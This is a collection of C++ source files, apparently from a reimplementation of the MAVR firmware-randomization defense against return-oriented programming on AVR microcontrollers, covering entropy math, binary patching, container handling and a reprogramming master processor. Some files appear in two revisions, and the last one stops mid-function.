#include "support/error.hpp"

namespace mavr::defense {

double entropy_bits(std::uint32_t n_symbols) {
  // log2(n!) = lgamma(n+1) / ln(2)
  return std::lgamma(static_cast<double>(n_symbols) + 1.0) / std::log(2.0);
}

double permutation_count(std::uint32_t n_symbols) {
  return std::exp2(entropy_bits(n_symbols));
}

double expected_attempts_fixed(double n_permutations) {
  return (n_permutations + 1.0) / 2.0;
}

double expected_attempts_rerandomized(double n_permutations) {
  return n_permutations;
}

namespace {

std::uint64_t factorial_u64(std::uint32_t n) {
  MAVR_REQUIRE(n <= 20, "factorial too large to enumerate");
  std::uint64_t f = 1;
  for (std::uint32_t i = 2; i <= n; ++i) f *= i;
  return f;
}

}  // namespace

TrialStats simulate_fixed(std::uint32_t n_functions, std::uint64_t trials,
                          support::Rng& rng) {
  const std::uint64_t n_perms = factorial_u64(n_functions);
  TrialStats stats;
  stats.trials = trials;
  double sum = 0;
  for (std::uint64_t t = 0; t < trials; ++t) {
    // The attacker tries permutations in a random order, never repeating
    // one (each failure eliminates a candidate, §V-D). The target's
    // position in such a no-repeat order is uniform on [1, n!], so sample
    // the attempt count directly instead of materializing and shuffling an
    // n!-element guess list per trial (which is O(n!·trials) time and
    // memory — unusable beyond ~12 functions, let alone the paper's 85+).
    const double attempts = static_cast<double>(rng.below(n_perms) + 1);
    sum += attempts;
    stats.max_attempts = std::max(stats.max_attempts, attempts);
  }
  stats.mean_attempts = sum / static_cast<double>(trials);
  return stats;
}

TrialStats simulate_fixed_enumerated(std::uint32_t n_functions,
                                     std::uint64_t trials,
                                     support::Rng& rng) {
  MAVR_REQUIRE(n_functions <= 10,
               "enumerated guess-order path is a debug aid for small n");
  const std::uint64_t n_perms = factorial_u64(n_functions);
  TrialStats stats;
  stats.trials = trials;
  double sum = 0;
  std::vector<std::size_t> guess_order(n_perms);
  for (std::uint64_t t = 0; t < trials; ++t) {
    const std::uint64_t target = rng.below(n_perms);
    for (std::size_t i = 0; i < n_perms; ++i) guess_order[i] = i;
    rng.shuffle(guess_order);
    std::uint64_t attempts = 0;
    for (std::size_t i = 0; i < n_perms; ++i) {
      ++attempts;
      if (guess_order[i] == target) break;
    }
    sum += static_cast<double>(attempts);
    stats.max_attempts = std::max(stats.max_attempts,
                                  static_cast<double>(attempts));
  }
  stats.mean_attempts = sum / static_cast<double>(trials);
  return stats;
}

TrialStats simulate_rerandomized(std::uint32_t n_functions,
                                 std::uint64_t trials, support::Rng& rng) {
  const std::uint64_t n_perms = factorial_u64(n_functions);
  TrialStats stats;
  stats.trials = trials;
  double sum = 0;
  for (std::uint64_t t = 0; t < trials; ++t) {
    // Geometric: each attempt the defender holds a fresh permutation and
    // the attacker's guess hits with probability 1/N.
    std::uint64_t attempts = 1;
    while (rng.below(n_perms) != 0) ++attempts;
    sum += static_cast<double>(attempts);
    stats.max_attempts = std::max(stats.max_attempts,
                                  static_cast<double>(attempts));
  }
  stats.mean_attempts = sum / static_cast<double>(trials);
  return stats;
}

}  // namespace mavr::defense
