// MAVR preprocessing stage (paper §V-B1, §VI-B2).
//
// Runs on the host development machine: extracts the function symbols and
// function-pointer references from the linked image and prepends them to
// the firmware HEX file, producing the container that is uploaded verbatim
// to the external flash chip.
//
// Container layout (what the HEX encodes):
//   u32  magic "MVRC"
//   u32  blob length
//   u32  image length
//   u32  CRC-32/ISO-HDLC over blob ‖ image
//   blob (toolchain::SymbolBlob wire format, CRC protected)
//   firmware image bytes
//
// The container-level CRC32 is what lets the master processor reject a
// corrupted external-flash read *before* patching and reprogramming the
// application from it (DESIGN.md §9) — the blob's own CRC16 only covers
// the symbol table, not the image bytes the randomizer rewrites.
#pragma once

#include <string>

#include "support/bytes.hpp"
#include "toolchain/image.hpp"

namespace mavr::defense {

/// The parsed container the master processor works from.
struct Container {
  toolchain::SymbolBlob blob;
  support::Bytes image;
};

/// Builds the container bytes for a linked image.
support::Bytes build_container(const toolchain::Image& image);

/// Host preprocessing: image → Intel HEX of the container.
std::string preprocess_to_hex(const toolchain::Image& image);

/// Parses container bytes (master side). Throws support::DataError on a
/// corrupt container.
Container parse_container(std::span<const std::uint8_t> bytes);

}  // namespace mavr::defense
