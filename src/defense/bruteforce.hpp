// Security evaluation of the randomization (paper §V-D, §VII-A1, §VIII-B).
//
// Analytic results reproduced:
//  * against a *fixed* permutation the attacker eliminates one candidate
//    per failed attempt: P(success at attempt j) = 1/N, E[attempts] =
//    (N+1)/2, with N = n! permutations of n movable functions;
//  * against MAVR, every failed attempt triggers re-randomization, so no
//    elimination is possible: attempts are geometric with p = 1/N and
//    E[attempts] = N;
//  * entropy of the layout is log2(n!) bits — 800 symbols (ArduRover)
//    give ≈6567 bits (paper §VIII-B).
//
// Monte-Carlo simulators validate the analytic expectations for small n
// (where n! is enumerable) — see tests/defense/bruteforce_test.cpp.
#pragma once

#include <cstdint>

#include "support/rng.hpp"

namespace mavr::defense {

/// log2(n!) — randomization entropy in bits (uses lgamma; exact enough
/// for any n here).
double entropy_bits(std::uint32_t n_symbols);

/// n! as a double (inf for large n — callers format accordingly).
double permutation_count(std::uint32_t n_symbols);

/// E[attempts] against one fixed permutation with elimination: (N+1)/2.
double expected_attempts_fixed(double n_permutations);

/// E[attempts] against MAVR's re-randomize-on-failure policy: N.
double expected_attempts_rerandomized(double n_permutations);

/// Monte-Carlo estimate of the mean number of attempts.
struct TrialStats {
  double mean_attempts = 0;
  double max_attempts = 0;
  std::uint64_t trials = 0;
};

/// Attacker vs. a fixed permutation: guesses candidates in random order
/// without repetition (software-only deployment, paper §VIII-A). The
/// attempt count of a no-repeat random order is uniform on [1, n!], so it
/// is sampled directly — O(1) per trial at any n.
TrialStats simulate_fixed(std::uint32_t n_functions, std::uint64_t trials,
                          support::Rng& rng);

/// Debug path for small n (≤ 10): materializes and shuffles the full
/// guess order per trial — the literal model simulate_fixed's direct
/// sampling replaces. Kept so tests can show the two agree statistically.
TrialStats simulate_fixed_enumerated(std::uint32_t n_functions,
                                     std::uint64_t trials, support::Rng& rng);

/// Attacker vs. MAVR: the permutation is redrawn after every failed
/// attempt, so previous failures carry no information.
TrialStats simulate_rerandomized(std::uint32_t n_functions,
                                 std::uint64_t trials, support::Rng& rng);

}  // namespace mavr::defense
