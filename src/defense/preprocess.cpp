#include "defense/preprocess.hpp"

#include "support/crc.hpp"
#include "support/error.hpp"
#include "toolchain/intelhex.hpp"

namespace mavr::defense {

namespace {
constexpr std::uint32_t kContainerMagic = 0x4D565243;  // "MVRC"
}

support::Bytes build_container(const toolchain::Image& image) {
  const toolchain::SymbolBlob blob = toolchain::SymbolBlob::from_image(image);
  const support::Bytes blob_bytes = blob.serialize();
  support::Crc32 crc;
  crc.update(blob_bytes);
  crc.update(image.bytes);
  support::Bytes out;
  support::ByteWriter w(out);
  w.u32_le(kContainerMagic);
  w.u32_le(static_cast<std::uint32_t>(blob_bytes.size()));
  w.u32_le(static_cast<std::uint32_t>(image.bytes.size()));
  w.u32_le(crc.value());
  w.bytes(blob_bytes);
  w.bytes(image.bytes);
  return out;
}

std::string preprocess_to_hex(const toolchain::Image& image) {
  return toolchain::intel_hex_encode(build_container(image));
}

Container parse_container(std::span<const std::uint8_t> bytes) {
  support::ByteReader r(bytes);
  if (r.remaining() < 16 || r.u32_le() != kContainerMagic) {
    throw support::DataError("bad MAVR container magic");
  }
  const std::uint32_t blob_len = r.u32_le();
  const std::uint32_t image_len = r.u32_le();
  const std::uint32_t stored_crc = r.u32_le();
  if (r.remaining() < static_cast<std::size_t>(blob_len) + image_len) {
    throw support::DataError("MAVR container truncated");
  }
  Container c;
  const support::Bytes blob_bytes = r.bytes(blob_len);
  c.image = r.bytes(image_len);
  support::Crc32 crc;
  crc.update(blob_bytes);
  crc.update(c.image);
  if (crc.value() != stored_crc) {
    throw support::DataError("MAVR container CRC mismatch");
  }
  c.blob = toolchain::SymbolBlob::deserialize(blob_bytes);
  if (c.blob.text_end > c.image.size()) {
    throw support::DataError("MAVR container image shorter than text");
  }
  return c;
}

}  // namespace mavr::defense
