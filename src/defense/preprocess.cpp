#include "defense/preprocess.hpp"

#include "support/error.hpp"
#include "toolchain/intelhex.hpp"

namespace mavr::defense {

namespace {
constexpr std::uint32_t kContainerMagic = 0x4D565243;  // "MVRC"
}

support::Bytes build_container(const toolchain::Image& image) {
  const toolchain::SymbolBlob blob = toolchain::SymbolBlob::from_image(image);
  const support::Bytes blob_bytes = blob.serialize();
  support::Bytes out;
  support::ByteWriter w(out);
  w.u32_le(kContainerMagic);
  w.u32_le(static_cast<std::uint32_t>(blob_bytes.size()));
  w.bytes(blob_bytes);
  w.bytes(image.bytes);
  return out;
}

std::string preprocess_to_hex(const toolchain::Image& image) {
  return toolchain::intel_hex_encode(build_container(image));
}

Container parse_container(std::span<const std::uint8_t> bytes) {
  support::ByteReader r(bytes);
  if (r.remaining() < 8 || r.u32_le() != kContainerMagic) {
    throw support::DataError("bad MAVR container magic");
  }
  const std::uint32_t blob_len = r.u32_le();
  if (r.remaining() < blob_len) {
    throw support::DataError("MAVR container truncated");
  }
  Container c;
  const support::Bytes blob_bytes = r.bytes(blob_len);
  c.blob = toolchain::SymbolBlob::deserialize(blob_bytes);
  c.image = r.bytes(r.remaining());
  if (c.blob.text_end > c.image.size()) {
    throw support::DataError("MAVR container image shorter than text");
  }
  return c;
}

}  // namespace mavr::defense
