// External SPI flash chip model (M95M02-DR, paper §V-A1).
//
// Stores the preprocessed firmware container (symbol blob + original
// binary). Deliberately sized to the application processor's flash: the
// paper notes this creates a memory-exhaustion failure mode when the
// symbol table plus a near-maximal binary overflow the chip, and
// recommends a larger part for production — a behaviour the tests
// exercise.
#pragma once

#include <cstdint>
#include <span>

#include "support/bytes.hpp"
#include "support/error.hpp"
#include "support/fault.hpp"

namespace mavr::defense {

class ExternalFlash {
 public:
  /// Default capacity matches the ATmega2560 program flash (256 KiB).
  explicit ExternalFlash(std::uint32_t capacity_bytes = 256 * 1024)
      : capacity_(capacity_bytes) {}

  std::uint32_t capacity() const { return capacity_; }
  std::uint32_t used() const {
    return static_cast<std::uint32_t>(data_.size());
  }

  /// Replaces the chip contents (host flashing path, paper §VI-B2).
  /// Throws support::PreconditionError when the container does not fit —
  /// the paper's exhaustion failure mode.
  void store(std::span<const std::uint8_t> bytes) {
    MAVR_REQUIRE(bytes.size() <= capacity_,
                 "external flash exhausted: symbol table + binary exceed "
                 "chip capacity (use a larger part in production)");
    data_.assign(bytes.begin(), bytes.end());
  }

  /// Random-access read — the property that lets the master process the
  /// binary in a streaming fashion (paper §VI-B3). Reads pass through the
  /// attached fault plane (bit flips / stuck bytes) when one is armed.
  std::uint8_t read(std::uint32_t addr) const {
    MAVR_REQUIRE(addr < data_.size(), "external flash read out of range");
    const std::uint8_t value = data_[addr];
    return faults_ ? faults_->filter_read(value) : value;
  }

  /// Streams the whole chip through read() — the master's container fetch
  /// path, subject to read faults. Distinct calls see distinct fault draws,
  /// which is what makes a bounded re-read retry meaningful.
  support::Bytes read_all() const {
    support::Bytes out(data_.size());
    for (std::uint32_t i = 0; i < out.size(); ++i) out[i] = read(i);
    return out;
  }

  /// Attaches (or clears, with nullptr) a fault-injection plane on the SPI
  /// read path. The plane must outlive the attachment.
  void attach_faults(support::FaultPlane* plane) { faults_ = plane; }

  /// Pristine chip contents (host/test introspection — not the faulted
  /// hardware read path).
  const support::Bytes& contents() const { return data_; }
  bool empty() const { return data_.empty(); }

 private:
  std::uint32_t capacity_;
  support::Bytes data_;
  support::FaultPlane* faults_ = nullptr;
};

}  // namespace mavr::defense
