#include "defense/patcher.hpp"

#include <algorithm>
#include <cmath>

#include "avr/decode.hpp"
#include "support/error.hpp"
#include "toolchain/encode.hpp"

namespace mavr::defense {

using toolchain::SymbolBlob;

namespace {

/// Old-address bookkeeping for one movable pass.
class AddressMap {
 public:
  AddressMap(const SymbolBlob& blob, std::vector<std::uint32_t> new_addrs)
      : blob_(blob), new_addrs_(std::move(new_addrs)) {}

  /// Index of the blob function containing `old_byte_addr`, or -1.
  /// Binary search over the ascending old addresses — the operation the
  /// paper describes for trampoline targets (§VI-B3).
  int containing(std::uint32_t old_byte_addr) const {
    const auto& addrs = blob_.function_addrs;
    auto it = std::upper_bound(addrs.begin(), addrs.end(), old_byte_addr);
    if (it == addrs.begin()) return -1;
    const int idx = static_cast<int>(std::distance(addrs.begin(), it)) - 1;
    if (old_byte_addr < addrs[idx] + blob_.function_sizes[idx]) return idx;
    return -1;
  }

  /// Maps an old text byte address to its new location; identity for
  /// addresses outside any function (vector table, data region).
  std::uint32_t map(std::uint32_t old_byte_addr, bool* was_mid) const {
    const int idx = containing(old_byte_addr);
    if (idx < 0) return old_byte_addr;
    const std::uint32_t offset = old_byte_addr - blob_.function_addrs[idx];
    if (was_mid != nullptr && offset != 0) *was_mid = true;
    return new_addrs_[static_cast<std::size_t>(idx)] + offset;
  }

  std::uint32_t new_addr(std::size_t idx) const { return new_addrs_[idx]; }

 private:
  const SymbolBlob& blob_;
  std::vector<std::uint32_t> new_addrs_;
};

}  // namespace

std::size_t movable_count(const SymbolBlob& blob) {
  std::size_t n = 0;
  for (std::size_t i = 0; i < blob.function_addrs.size(); ++i) {
    if (blob.function_addrs[i] >= blob.first_movable &&
        blob.function_addrs[i] + blob.function_sizes[i] <= blob.text_end) {
      ++n;
    }
  }
  return n;
}

std::vector<std::size_t> draw_permutation(const SymbolBlob& blob,
                                          support::Rng& rng) {
  return rng.permutation(movable_count(blob));
}

std::uint32_t padding_slack(const SymbolBlob& blob) {
  return blob.layout_end > blob.text_end ? blob.layout_end - blob.text_end
                                         : 0;
}

std::vector<std::uint32_t> draw_gaps(const SymbolBlob& blob,
                                     support::Rng& rng) {
  const std::size_t n = movable_count(blob);
  std::vector<std::uint32_t> gaps(n + 1, 0);
  // Multinomial distribution of slack/2 two-byte units over n+1 gaps.
  const std::uint32_t units = padding_slack(blob) / 2;
  for (std::uint32_t u = 0; u < units; ++u) {
    gaps[rng.below(gaps.size())] += 2;
  }
  return gaps;
}

double padding_entropy_bits(std::size_t n_blocks, std::uint32_t slack_bytes) {
  // log2 C(k + n, n) with k = slack/2 units and n+1 gap positions:
  // weak compositions of k into n+1 parts = C(k + n, n).
  const double k = slack_bytes / 2.0;
  const double n = static_cast<double>(n_blocks);
  const auto lg = [](double x) { return std::lgamma(x + 1.0); };
  return (lg(k + n) - lg(k) - lg(n)) / std::log(2.0);
}

RandomizeResult randomize_image(std::span<const std::uint8_t> image,
                                const SymbolBlob& blob,
                                const std::vector<std::size_t>& permutation,
                                const std::vector<std::uint32_t>& gaps) {
  MAVR_REQUIRE(!blob.has_ldi_code_pointers,
               "image contains LDI code pointers (-mcall-prologues build); "
               "MAVR requires -mno-call-prologues");
  MAVR_REQUIRE(blob.text_end <= image.size(), "blob/text size mismatch");

  // Identify the movable blocks (ascending) and validate contiguity:
  // aligned builds leave padding gaps that a block permutation cannot
  // preserve (MAVR requires the unaligned GCC 4.5.4 layout).
  std::vector<std::size_t> movable;
  for (std::size_t i = 0; i < blob.function_addrs.size(); ++i) {
    if (blob.function_addrs[i] >= blob.first_movable &&
        blob.function_addrs[i] + blob.function_sizes[i] <= blob.text_end) {
      movable.push_back(i);
    }
  }
  MAVR_REQUIRE(permutation.size() == movable.size(),
               "permutation size does not match movable function count");
  for (std::size_t k = 0; k + 1 < movable.size(); ++k) {
    MAVR_REQUIRE(blob.function_addrs[movable[k]] +
                         blob.function_sizes[movable[k]] ==
                     blob.function_addrs[movable[k + 1]],
                 "function blocks not contiguous (aligned build?)");
  }
  if (!movable.empty()) {
    MAVR_REQUIRE(blob.function_addrs[movable.back()] +
                         blob.function_sizes[movable.back()] ==
                     blob.text_end,
                 "movable region does not reach text end");
  }

  // Validate the gap vector against the reserved padding slack.
  const std::uint32_t slack = padding_slack(blob);
  std::vector<std::uint32_t> gap_before(movable.size() + 1, 0);
  if (!gaps.empty()) {
    MAVR_REQUIRE(gaps.size() == movable.size() + 1,
                 "gap vector must have one entry per block plus one");
    std::uint64_t total = 0;
    for (std::uint32_t g : gaps) {
      MAVR_REQUIRE(g % 2 == 0, "gaps must be even (word alignment)");
      total += g;
    }
    MAVR_REQUIRE(total == slack,
                 "gaps must exactly fill the reserved padding slack");
    gap_before = gaps;
  } else {
    gap_before.back() = slack;  // no padding requested: slack stays a tail
  }

  // Assign new addresses in permuted order, inserting the gaps.
  std::vector<std::uint32_t> new_addrs(blob.function_addrs.begin(),
                                       blob.function_addrs.end());
  std::uint32_t cursor = blob.first_movable;
  std::vector<std::size_t> new_order;  // blob indices in new layout order
  new_order.reserve(permutation.size());
  for (std::size_t slot = 0; slot < permutation.size(); ++slot) {
    cursor += gap_before[slot];
    const std::size_t idx = movable[permutation[slot]];
    new_order.push_back(idx);
    new_addrs[idx] = cursor;
    cursor += blob.function_sizes[idx];
  }
  cursor += gap_before.empty() ? 0 : gap_before.back();
  MAVR_CHECK(movable.empty() ||
                 cursor == std::max(blob.layout_end, blob.text_end),
             "permuted layout size mismatch");

  RandomizeResult result;
  result.new_addrs = new_addrs;
  AddressMap map(blob, std::move(new_addrs));

  // Lay the new image out: head (vectors + pinned code), then erased
  // flash over the whole layout region, then the permuted blocks; the
  // data region stays verbatim.
  result.image.assign(image.begin(), image.end());
  const std::uint32_t layout_end = std::max(blob.layout_end, blob.text_end);
  std::fill(result.image.begin() + blob.first_movable,
            result.image.begin() + layout_end, std::uint8_t{0xFF});
  for (std::size_t idx : new_order) {
    const std::uint32_t old_addr = blob.function_addrs[idx];
    const std::uint32_t size = blob.function_sizes[idx];
    const std::uint32_t dst = map.new_addr(idx);
    std::copy(image.begin() + old_addr, image.begin() + old_addr + size,
              result.image.begin() + dst);
    if (dst != old_addr) ++result.moved_functions;
  }

  // Patch pass over the executable region of the *new* image. Blocks were
  // copied verbatim, so each instruction's encoded target still refers to
  // old addresses; walk each block knowing its old base so relative forms
  // can be validated too.
  struct Region {
    std::uint32_t new_base, old_base, size;
  };
  std::vector<Region> regions;
  regions.push_back(Region{0, 0, blob.first_movable});  // pinned head
  for (std::size_t idx : new_order) {
    regions.push_back(Region{map.new_addr(idx), blob.function_addrs[idx],
                             blob.function_sizes[idx]});
  }

  for (const Region& region : regions) {
    std::uint32_t off = 0;
    while (off + 2 <= region.size) {
      const std::uint32_t pos = region.new_base + off;
      const std::uint16_t w1 = support::load_u16_le(result.image, pos);
      const std::uint16_t w2 =
          (off + 4 <= region.size)
              ? support::load_u16_le(result.image, pos + 2)
              : std::uint16_t{0};
      const avr::Instr instr = avr::decode(w1, w2);
      const std::uint32_t old_pos = region.old_base + off;

      if (instr.op == avr::Op::Call || instr.op == avr::Op::Jmp) {
        const std::uint32_t old_target =
            static_cast<std::uint32_t>(instr.target) * 2;
        bool mid = false;
        const std::uint32_t new_target = map.map(old_target, &mid);
        const auto [nw1, nw2] =
            toolchain::retarget_abs_jump(w1, new_target / 2);
        support::store_u16_le(result.image, pos, nw1);
        support::store_u16_le(result.image, pos + 2, nw2);
        ++result.patched_abs_jumps;
        if (mid) ++result.mid_function_targets;
      } else if (instr.op == avr::Op::Rcall ||
                 (instr.op == avr::Op::Rjmp && region.old_base != 0)) {
        // Relative transfers must stay inside their block; a short call
        // crossing blocks means the image was linked with relaxation.
        const std::int64_t target_old =
            static_cast<std::int64_t>(old_pos) / 2 + 1 + instr.target;
        const std::int64_t lo = region.old_base / 2;
        const std::int64_t hi = (region.old_base + region.size) / 2;
        MAVR_REQUIRE(target_old >= lo && target_old < hi,
                     "relaxed RCALL/RJMP crosses a function boundary; "
                     "MAVR requires --no-relax");
      }
      off += instr.size_words * 2;
    }
  }

  // Patch the recorded function-pointer slots (data-init region offsets
  // are unchanged because the permutation preserves the text extent).
  for (const toolchain::PointerSlot& slot : blob.pointer_slots) {
    MAVR_REQUIRE(slot.image_offset + slot.width <= result.image.size(),
                 "pointer slot out of range");
    std::uint32_t word_addr =
        support::load_u16_le(result.image, slot.image_offset);
    if (slot.width == 3) {
      word_addr |= static_cast<std::uint32_t>(
                       result.image[slot.image_offset + 2])
                   << 16;
    }
    bool mid = false;
    const std::uint32_t new_byte = map.map(word_addr * 2, &mid);
    const std::uint32_t new_word = new_byte / 2;
    if (slot.width == 2) {
      MAVR_REQUIRE(new_word <= 0xFFFF,
                   "2-byte pointer slot target moved beyond 128 KiB");
    }
    support::store_u16_le(result.image, slot.image_offset,
                          static_cast<std::uint16_t>(new_word & 0xFFFF));
    if (slot.width == 3) {
      result.image[slot.image_offset + 2] =
          static_cast<std::uint8_t>(new_word >> 16);
    }
    ++result.patched_pointers;
    if (mid) ++result.mid_function_targets;
  }

  return result;
}

RandomizeResult randomize_image(std::span<const std::uint8_t> image,
                                const SymbolBlob& blob, support::Rng& rng) {
  const std::vector<std::size_t> permutation = draw_permutation(blob, rng);
  if (padding_slack(blob) > 0) {
    return randomize_image(image, blob, permutation, draw_gaps(blob, rng));
  }
  return randomize_image(image, blob, permutation);
}

}  // namespace mavr::defense
