#include "defense/master.hpp"

#include "toolchain/intelhex.hpp"

namespace mavr::defense {

MasterProcessor::MasterProcessor(ExternalFlash& flash, sim::Board& board,
                                 const MasterConfig& config)
    : flash_(flash), board_(board), config_(config), rng_(config.seed) {}

void MasterProcessor::host_upload_hex(const std::string& hex) {
  const toolchain::HexImage decoded = toolchain::intel_hex_decode(hex);
  flash_.store(decoded.data);  // stored verbatim (paper §VI-B2)
}

std::size_t MasterProcessor::symbol_count() const {
  if (flash_.empty()) return 0;
  return movable_count(parse_container(flash_.contents()).blob);
}

std::int64_t MasterProcessor::endurance_remaining() const {
  return static_cast<std::int64_t>(board_.cpu().spec().flash_endurance) -
         board_.flash_write_cycles();
}

void MasterProcessor::boot() {
  MAVR_REQUIRE(!flash_.empty(), "no firmware uploaded to external flash");
  ++boots_;
  const bool randomize =
      randomizations_ == 0 ||
      (boots_ - 1) % config_.randomize_every_n_boots == 0;
  if (randomize) {
    randomize_and_program();
  } else {
    // Scheduled non-randomizing boot: just release the application from
    // reset — the previously programmed binary keeps its permutation and
    // no flash endurance is spent.
    board_.reset();
  }
  last_feed_cycle_ = board_.cpu().cycles();
}

void MasterProcessor::randomize_and_program() {
  const Container container = parse_container(flash_.contents());
  current_permutation_ = draw_permutation(container.blob, rng_);
  const RandomizeResult result =
      randomize_image(container.image, container.blob, current_permutation_);
  ++randomizations_;
  program_bytes(result.image);
}

void MasterProcessor::program_bytes(std::span<const std::uint8_t> image) {
  // Program through the bootloader (paper §VI-B4): reset into the loader,
  // chip erase, stream pages, reset into the application.
  board_.bootloader_enter();
  board_.bootloader_erase();
  const std::uint32_t page = board_.cpu().spec().flash_page_bytes;
  for (std::uint32_t off = 0; off < image.size(); off += page) {
    const std::uint32_t len =
        std::min<std::uint32_t>(page, static_cast<std::uint32_t>(image.size()) - off);
    board_.bootloader_write_page(off, image.subspan(off, len));
  }
  if (config_.set_readout_protection && !board_.readout_protected()) {
    board_.set_readout_protection();
  }
  board_.bootloader_run_application();

  // Timing model (Table II): the randomization is patched in a streaming
  // pass while bytes move over the serial link, and the bootloader writes
  // each page while the next one arrives, so startup cost is the larger
  // of the two pipelines.
  StartupReport report;
  report.image_bytes = static_cast<std::uint32_t>(image.size());
  report.transfer_ms =
      static_cast<double>(image.size()) * 10.0 * 1000.0 / config_.serial_baud;
  report.flash_ms =
      static_cast<double>((image.size() + page - 1) / page) *
      config_.page_program_ms;
  report.total_ms = std::max(report.transfer_ms, report.flash_ms);
  last_startup_ = report;
}

bool MasterProcessor::service() {
  if (board_.in_bootloader()) return false;
  const std::uint64_t now = board_.cpu().cycles();
  const std::uint64_t last_feed = board_.feed_line().last_write_cycle();
  if (last_feed > last_feed_cycle_) last_feed_cycle_ = last_feed;

  const bool quiet = now > last_feed_cycle_ &&
                     now - last_feed_cycle_ > config_.watchdog_timeout_cycles;
  if (!board_.crashed() && !quiet) return false;

  // Failed ROP attack: the application is executing garbage (§V-D).
  // Reset, re-randomize, reprogram — the attacker must start over against
  // a fresh permutation.
  ++attacks_detected_;
  randomize_and_program();
  last_feed_cycle_ = board_.cpu().cycles();
  return true;
}

}  // namespace mavr::defense
