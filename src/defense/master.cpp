#include "defense/master.hpp"

#include <algorithm>
#include <numeric>
#include <utility>

#include "support/crc.hpp"
#include "support/log.hpp"
#include "toolchain/intelhex.hpp"

namespace mavr::defense {

MasterProcessor::MasterProcessor(ExternalFlash& flash, sim::Board& board,
                                 const MasterConfig& config)
    : flash_(flash), board_(board), config_(config), rng_(config.seed) {}

void MasterProcessor::host_upload_hex(const std::string& hex) {
  const toolchain::HexImage decoded = toolchain::intel_hex_decode(hex);
  flash_.store(decoded.data);  // stored verbatim (paper §VI-B2)
}

std::size_t MasterProcessor::symbol_count() const {
  if (flash_.empty()) return 0;
  // Introspection reads the pristine contents, not the faulted SPI path —
  // it must not perturb the fault schedule of the programming stream.
  return movable_count(parse_container(flash_.contents()).blob);
}

std::int64_t MasterProcessor::endurance_remaining() const {
  const std::int64_t budget =
      config_.endurance_budget >= 0
          ? config_.endurance_budget
          : static_cast<std::int64_t>(board_.cpu().spec().flash_endurance);
  return budget - board_.flash_write_cycles();
}

void MasterProcessor::boot() {
  MAVR_REQUIRE(!flash_.empty(), "no firmware uploaded to external flash");
  ++boots_;
  const bool scheduled =
      randomizations_ == 0 ||
      (boots_ - 1) % config_.randomize_every_n_boots == 0;
  if (scheduled) {
    if (endurance_remaining() > config_.endurance_reserve) {
      randomize_and_program();
    } else {
      // Endurance floor (§VI-A): stop spending scheduled cycles and keep
      // what is left for watchdog-triggered recovery.
      ++health_.scheduled_skips;
      MAVR_LOG(Warn, "master")
          << "scheduled re-randomization skipped: " << endurance_remaining()
          << " endurance cycles left (reserve " << config_.endurance_reserve
          << "); releasing previously programmed image";
      board_.reset();
      reset_detector();
    }
  } else {
    // Scheduled non-randomizing boot: just release the application from
    // reset — the previously programmed binary keeps its permutation and
    // no flash endurance is spent.
    board_.reset();
    reset_detector();
  }
  last_feed_cycle_ = board_.cpu().cycles();
}

std::optional<Container> MasterProcessor::read_container() {
  for (std::uint32_t attempt = 0; attempt <= config_.container_read_retries;
       ++attempt) {
    try {
      return parse_container(flash_.read_all());
    } catch (const support::DataError& e) {
      ++health_.container_crc_failures;
      MAVR_LOG(Debug, "master")
          << "container read " << attempt + 1 << " rejected: " << e.what();
    }
  }
  return std::nullopt;
}

void MasterProcessor::randomize_and_program() {
  // CRC32-framed container validation *before* patching: a corrupted
  // external-flash read must never reach the randomizer.
  std::optional<Container> container = read_container();
  if (!container) {
    MAVR_LOG(Warn, "master")
        << "container unreadable after retries; degrading";
    degrade_to_last_good();
    return;
  }
  std::vector<std::size_t> permutation;
  RandomizeResult result;
  if (config_.randomize_enabled) {
    permutation = draw_permutation(container->blob, rng_);
    result = randomize_image(container->image, container->blob, permutation);
  } else {
    // Detection-only deployment: program the container verbatim. The
    // identity permutation keeps current_permutation() meaningful.
    permutation.resize(movable_count(container->blob));
    std::iota(permutation.begin(), permutation.end(), std::size_t{0});
    result.image = container->image;
  }

  StartupReport report;
  for (std::uint32_t attempt = 0; attempt <= config_.image_retries;
       ++attempt) {
    if (attempt > 0) {
      ++health_.image_retries;
      report.retry_ms += config_.retry_backoff_ms * attempt;
    }
    if (endurance_remaining() <= 0) {
      ++health_.endurance_exhausted_events;
      break;  // each pass costs an erase cycle we no longer have
    }
    report.image_attempts = attempt + 1;
    if (program_verified(result.image, report)) {
      current_permutation_ = std::move(permutation);
      last_good_image_ = result.image;
      last_good_addrs_ = config_.randomize_enabled
                             ? result.new_addrs
                             : container->blob.function_addrs;
      last_good_sizes_ = container->blob.function_sizes;
      ++randomizations_;
      health_state_ = MasterHealth::kHealthy;
      finish_report(result.image.size(), report);
      text_end_ = container->blob.text_end;
      sync_detector(last_good_image_);
      return;
    }
  }
  degrade_to_last_good();
}

double MasterProcessor::page_transfer_ms(std::size_t bytes) const {
  return static_cast<double>(bytes) * 10.0 * 1000.0 / config_.serial_baud;
}

bool MasterProcessor::program_verified(std::span<const std::uint8_t> image,
                                       StartupReport& report) {
  // Program through the bootloader (paper §VI-B4): reset into the loader,
  // chip erase, stream pages — now with per-page CRC32 readback verify and
  // bounded retransmission — then a whole-image verify before release.
  board_.bootloader_enter();
  board_.bootloader_erase();
  const std::uint32_t page = board_.cpu().spec().flash_page_bytes;
  support::Bytes wire;
  for (std::uint32_t off = 0; off < image.size(); off += page) {
    const std::uint32_t len = std::min<std::uint32_t>(
        page, static_cast<std::uint32_t>(image.size()) - off);
    const std::uint32_t want = support::crc32_ieee(image.subspan(off, len));
    bool placed = false;
    for (std::uint32_t attempt = 0; attempt <= config_.page_retries;
         ++attempt) {
      if (attempt > 0) {
        ++health_.page_retries;
        ++report.page_retries;
        // Retransmission plus linear backoff before the retry.
        report.retry_ms += page_transfer_ms(len) +
                           config_.retry_backoff_ms * attempt;
      }
      wire.assign(image.begin() + off, image.begin() + off + len);
      const support::PageTransfer fate =
          faults_ ? faults_->filter_page(wire) : support::PageTransfer::kOk;
      if (fate == support::PageTransfer::kDropped) {
        continue;  // bootloader ack timed out; retransmit
      }
      board_.bootloader_write_page(off, wire);
      // Per-page verify: CRC32 of the bootloader readback against the
      // intended bytes catches both transit corruption and failed program
      // pulses.
      if (support::crc32_ieee(board_.bootloader_read_page(off, len)) ==
          want) {
        placed = true;
        break;
      }
      ++health_.page_verify_failures;
    }
    if (!placed) {
      MAVR_LOG(Debug, "master")
          << "page at 0x" << std::hex << off << std::dec << " not placed in "
          << config_.page_retries + 1 << " attempts; abandoning pass";
      return false;  // board remains parked in the bootloader
    }
  }
  // Whole-image readback verify: nothing torn leaves the bootloader.
  if (support::crc32_ieee(board_.bootloader_read_page(
